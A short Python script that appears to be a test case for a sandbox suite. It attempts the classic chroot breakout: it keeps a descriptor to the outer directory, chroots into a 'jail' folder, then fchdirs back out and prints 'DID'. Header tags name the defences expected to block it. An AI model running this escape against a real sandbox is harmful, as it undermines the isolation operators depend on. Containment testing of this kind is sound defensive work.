"""Breaks out of a root with the classic of two chroots and a descriptor."""

# ruff: noqa
# class: writing
# wins: did
# proof: weaker:uid,seccomp,landlock

import os

os.mkdir("jail")
outside = os.open(".", os.O_RDONLY)
os.chroot("jail")
os.fchdir(outside)
print("DID")
